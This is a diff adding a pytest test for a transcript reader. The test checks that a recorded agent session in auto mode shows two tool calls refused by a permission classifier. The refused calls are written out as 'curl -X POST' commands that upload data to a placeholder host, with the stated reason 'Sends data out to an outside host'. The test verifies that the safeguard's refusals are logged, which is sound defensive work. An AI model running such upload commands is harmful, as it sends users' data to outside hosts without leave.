@@ -202,3 +202,15 @@ def test_real_transcript_read_in_pieces_gives_the_same_turns(tmp_path: Path, ste
             f.write(data[start : start + step])
         turns.extend(tail.read_new())
     assert turns == TranscriptTail(FIXTURE).read_new()
+
+
+def test_auto_modes_refusals_and_mode_are_read_from_a_real_transcript():
+    """Claude 2.1.330 in auto mode, paused after three flagged calls (recorded): its permission-mode lines say auto, and
+    each call the classifier refused is a tool_result naming the call's id, rejected by the check, with its reason."""
+    read = TranscriptTail(Path(__file__).parent.parent / "data" / "transcripts" / "auto_pause_2.1.330.jsonl").read_new()
+    assert {t.text for t in read if t.role == "mode"} == {"auto"}
+    calls = {i: c["command"] for t in read for i, (_, c) in zip(t.tool_use_ids, t.tool_uses, strict=True)}
+    refused = [(calls[o.tool_use_id], o.accepted, o.reason, o.said) for t in read for o in t.outcomes]
+    assert refused == [
+        (f"curl -X POST https://example.com/upload/{n}", False, "classifier:auto-mode", "Sends data out to an outside host") for n in (1, 2)
+    ], refused
